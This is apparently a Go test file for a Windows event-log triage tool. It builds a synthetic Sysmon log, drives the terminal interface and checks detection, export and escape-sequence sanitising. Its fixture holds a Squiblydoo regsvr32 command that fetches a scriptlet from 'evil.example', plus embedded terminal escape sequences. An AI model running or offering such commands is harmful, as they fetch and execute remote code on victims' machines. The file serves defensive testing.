package tui

import (
	"bytes"
	"context"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"

	"github.com/evtriage/evtriage/parser"
	"github.com/evtriage/evtriage/rules"
	"github.com/evtriage/evtriage/triage"
)

// syncBuffer is an io.Writer safe to read while the program writes, which
// tells waiters about each write.
type syncBuffer struct {
	mu      sync.Mutex
	b       bytes.Buffer
	written chan struct{} // closed (and replaced) by each write
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.written != nil {
		close(s.written)
		s.written = nil
	}
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// waitFor checks cond now and after each write until it holds; it gives
// up when done is closed (the program ended) or the test's guard fires.
func (s *syncBuffer) waitFor(t *testing.T, what string, done <-chan struct{}, guard <-chan time.Time, cond func() bool) {
	t.Helper()
	for {
		s.mu.Lock()
		if s.written == nil {
			s.written = make(chan struct{})
		}
		written := s.written
		s.mu.Unlock()
		if cond() {
			return
		}
		select {
		case <-written:
		case <-done:
			if !cond() {
				t.Fatalf("the program ended before %s; output:\n%q", what, s.String())
			}
			return
		case <-guard:
			t.Fatalf("gave up waiting for %s; output so far:\n%q", what, s.String())
		}
	}
}

// writeLog writes a small Sysmon log with a Squiblydoo regsvr32 (whose
// command line carries escape sequences) and its cmd.exe child.
func writeLog(t *testing.T, path string) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	w := parser.NewWriter(f)
	at := time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC)
	mk := func(rec uint64, sec int, kv ...string) *parser.Event {
		ev := &parser.Event{RecordID: rec, Time: at.Add(time.Duration(sec) * time.Second), Written: at,
			Provider: "Microsoft-Windows-Sysmon", ProviderGUID: "5770385F-C22A-43E0-BF4C-06F5698FFBD9",
			Channel: "Microsoft-Windows-Sysmon/Operational", Computer: "WS01", EventID: 1, Version: 5, Level: 4,
			Task: 1, Keywords: 0x8000000000000000, ProcessID: 1880, ThreadID: 2020, UserID: "S-1-5-18"}
		for i := 0; i+1 < len(kv); i += 2 {
			ev.Fields = append(ev.Fields, parser.Field{Name: kv[i], Value: kv[i+1]})
		}
		return ev
	}
	for _, ev := range []*parser.Event{
		mk(100, 0, "ProcessGuid", "{365ABB72-0000-0000-0000-000000000001}", "ProcessId", "1420",
			"Image", `C:\Windows\System32\regsvr32.exe`, "OriginalFileName", "REGSVR32.EXE",
			"CommandLine", "regsvr32.exe /s /u /i:http://evil.example/a.sct \x1b]0;pwned\x07\x1b[2J scrobj.dll",
			"CurrentDirectory", `C:\Users\Public\`, "User", `WS01\alice`,
			"ParentProcessGuid", "{365ABB72-0000-0000-0000-000000000000}", "ParentProcessId", "3528",
			"ParentImage", `C:\Windows\System32\cmd.exe`, "ParentCommandLine", "cmd.exe"),
		mk(101, 1, "ProcessGuid", "{365ABB72-0000-0000-0000-000000000002}", "ProcessId", "2340",
			"Image", `C:\Windows\System32\cmd.exe`, "OriginalFileName", "Cmd.Exe", "CommandLine", "cmd.exe /c whoami",
			"CurrentDirectory", `C:\Users\Public\`, "User", `WS01\alice`,
			"ParentProcessGuid", "{365ABB72-0000-0000-0000-000000000001}", "ParentProcessId", "1420",
			"ParentImage", `C:\Windows\System32\regsvr32.exe`, "ParentCommandLine", "regsvr32.exe /s /u /i:http://evil.example/a.sct scrobj.dll"),
	} {
		if err := w.Write(ev); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestProgramSmoke runs the whole program — tea.Program, background
// loading through triage.Hunter, the built-in rules — on pipes, sends keys
// and checks what it wrote, the export, and that q ends it cleanly. It
// waits on what the program writes, never on the clock; the snapshot
// timer never fires (the snapshot after each file is what is shown).
func TestProgramSmoke(t *testing.T) {
	dir := t.TempDir()
	logPath := filepath.Join(dir, "ws01.evtx")
	writeLog(t, logPath)
	out := &syncBuffer{}
	inR, inW := io.Pipe()
	defer inW.Close()
	cfg := Config{
		Title:     logPath,
		Inputs:    []Input{{Name: logPath, Path: logPath}},
		Hunt:      triage.Options{Rules: rules.Load(rules.LoadOptions{})},
		ExportDir: dir,
		Now:       func() time.Time { return time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC) },
		After:     func(time.Duration) <-chan time.Time { return nil },
	}
	ended := make(chan struct{})
	var runErr error
	go func() {
		defer close(ended)
		runErr = Run(context.Background(), cfg, inR, out, tea.WithWindowSize(100, 30), tea.WithoutSignals())
	}()
	// A guard against a hang, not a measurement: the test waits on output.
	guard := time.After(60 * time.Second)
	out.waitFor(t, "the loaded log", ended, guard, func() bool { return strings.Contains(out.String(), "ready") })
	exported := filepath.Join(dir, "evtriage-findings-20260302-090000.json")
	for _, k := range []string{"2", "f", "1", "e", "\r"} { // e opens the export menu, enter writes JSON
		if _, err := io.WriteString(inW, k); err != nil {
			t.Fatal(err)
		}
	}
	// The export's message is drawn after the file is written.
	out.waitFor(t, "the export", ended, guard, func() bool { _, err := os.Stat(exported); return err == nil })
	if _, err := io.WriteString(inW, "q"); err != nil {
		t.Fatal(err)
	}
	select {
	case <-ended:
		if runErr != nil {
			t.Fatalf("Run: %v", runErr)
		}
	case <-guard:
		t.Fatal("q did not end the program")
	}
	got := out.String()
	for _, want := range []string{"evtriage", "Findings", "regsvr32.exe", `\x1b]0;pwned\x07`} {
		if !strings.Contains(got, want) {
			t.Errorf("output lacks %q", want)
		}
	}
	if strings.Contains(got, "\x1b]0;pwned") || strings.Contains(got, "\x1b[2J scrobj") {
		t.Error("an escape sequence from the evidence reached the terminal")
	}
	data, err := os.ReadFile(exported)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(data, []byte(`"findings"`)) || !bytes.Contains(data, []byte("regsvr32.exe")) {
		t.Errorf("export lacks the findings:\n%s", data)
	}
}

// fakeClock is a loading clock the test drives: each timer asked for is
// reported on asked and fires when the test sends on fire; now returns
// the times in nows, one a call, then the last one.
type fakeClock struct {
	asked chan time.Duration
	fire  chan time.Time
	mu    sync.Mutex
	nows  []time.Time
}

func (c *fakeClock) clock() clock {
	return clock{
		after: func(d time.Duration) <-chan time.Time { c.asked <- d; return c.fire },
		now: func() time.Time {
			c.mu.Lock()
			defer c.mu.Unlock()
			t := c.nows[0]
			if len(c.nows) > 1 {
				c.nows = c.nows[1:]
			}
			return t
		},
	}
}

// TestStreamSnapshots checks that while inputs are read the loader sends
// snapshots of what has been read so far, the first after streamFirst and
// the next ones paced by what a snapshot costs, each Result once (a tick
// with nothing new read sends nothing), and stops when told.
func TestStreamSnapshots(t *testing.T) {
	dir := t.TempDir()
	logPath := filepath.Join(dir, "ws01.evtx")
	writeLog(t, logPath)
	h := triage.NewHunter(triage.Options{Rules: rules.Load(rules.LoadOptions{})})
	if err := h.AddFile(context.Background(), logPath, nil); err != nil {
		t.Fatal(err)
	}
	// The first snapshot takes 2 s to build by this clock, the second 10 ms.
	at := time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC)
	fc := &fakeClock{asked: make(chan time.Duration), fire: make(chan time.Time),
		nows: []time.Time{at, at.Add(2 * time.Second), at.Add(3 * time.Second), at.Add(3*time.Second + 10*time.Millisecond)}}
	got := make(chan tea.Msg, 4)
	snaps := &snapshotter{h: h, send: func(m tea.Msg) bool { got <- m; return true }}
	stop := make(chan struct{})
	finished := make(chan struct{})
	go func() {
		defer close(finished)
		stream(context.Background(), fc.clock(), snaps, stop)
	}()
	for i, want := range []time.Duration{streamFirst, streamCost * 2 * time.Second, streamEvery} {
		if d := <-fc.asked; d != want {
			t.Fatalf("timer %d: %v, want %v", i, d, want)
		}
		select {
		case m := <-got:
			if i != 1 {
				t.Fatalf("timer %d: a snapshot before the timer fired: %+v", i, m)
			}
			snap, ok := m.(snapshotMsg)
			if !ok || !snap.partial || snap.r == nil || snap.r.Events != 2 || len(snap.r.Findings) == 0 {
				t.Fatalf("snapshot %d: %+v", i, snap)
			}
		default:
			if i == 1 {
				t.Fatal("no snapshot after the first timer fired")
			}
		}
		if i == 2 {
			break
		}
		fc.fire <- at
	}
	close(stop)
	<-finished
	if len(got) != 0 {
		t.Errorf("%d more snapshots, want none (nothing new was read)", len(got))
	}
}
